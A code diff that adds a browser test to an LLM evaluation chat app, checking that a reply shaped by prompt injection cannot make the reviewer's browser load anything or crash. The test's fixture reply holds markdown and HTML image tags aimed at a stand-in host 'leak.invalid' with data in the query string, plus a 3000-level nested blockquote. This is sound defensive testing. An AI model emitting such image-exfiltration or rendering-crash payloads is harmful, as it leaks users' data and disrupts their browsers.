@@ -6,6 +6,7 @@ import pytest
 
 from lib.db import init_db, session_scope
 from lib.models import EvaluationSnapshot
+from lib.safe_markdown import MAX_NESTING
 from tests import llm_server as fake
 
 pytestmark = pytest.mark.browser
@@ -63,4 +64,56 @@ def _chat(page) -> None:
 
     assert page.get_by_text("Evidence says otherwise.").count() == 2
     page.get_by_text("2 of 15 messages used").wait_for(timeout=15_000)
+    assert page.dialogs == []
+
+
+LEAK = "http://leak.invalid/pixel.png"
+
+
+def test_injected_image_never_loads_and_deep_quote_renders(streamlit_app, page, tmp_path, llm_server) -> None:
+    """Issue #17: a prompt-injected reply may not make the reviewer's browser fetch anything, nor crash it."""
+    url = f"sqlite:///{tmp_path / 'coach.db'}"
+    engine = init_db(url)
+    with session_scope(engine) as s:
+        s.add(
+            EvaluationSnapshot(
+                id="snap_inject",
+                question="Q?",
+                model_answer="A.",
+                product="acme",
+                language="en",
+                user_scores_json={"truthfulness": {"score": 1}},
+                judge_scores_json={"truthfulness": {"score": 3}},
+            )
+        )
+    engine.dispose()
+    reply = (
+        f"Summary ![secret]({LEAK}?q=answer) and ![ref][r] **bold**\n\n[r]: {LEAK}?ref\n\n"
+        f"<img src='{LEAK}?html'>\n\n" + "> " * 3000 + "deep quote end"
+    )
+    llm_server.responder = lambda body: fake.stream([reply], delay=0.0)
+    server = streamlit_app(url, OPENAI_BASE_URL=llm_server.base_url, OPENAI_API_KEY="test")
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url))
+    crashed: list[str] = []
+    page.on("crash", lambda _: crashed.append("crash"))
+
+    page.goto(f"{server.base_url}/coach?snapshot=snap_inject")
+    page.get_by_text("Start a chat").wait_for(timeout=30_000)
+    page.get_by_test_id("stMultiSelect").click()
+    page.get_by_role("option", name="Truthfulness").click()
+    page.keyboard.press("Escape")
+    page.get_by_role("button", name="Start chat").click()
+    page.get_by_text("deep quote end").wait_for(timeout=30_000)
+    page.wait_for_timeout(1500)
+
+    assert [u for u in requested if "leak.invalid" in u] == []
+    assert crashed == []
+    assert page.locator("[data-testid='stChatMessage'] img[src*='leak']").count() == 0
+    assert page.locator("[data-testid='stChatMessage'] strong", has_text="bold").count() >= 1
+    depth = page.evaluate(
+        """() => Math.max(0, ...[...document.querySelectorAll('[data-testid="stChatMessage"] blockquote')]
+            .map(q => { let d = 0; for (let e = q; e; e = e.parentElement && e.parentElement.closest('blockquote')) d++; return d; }))"""
+    )
+    assert 1 <= depth <= MAX_NESTING
     assert page.dialogs == []
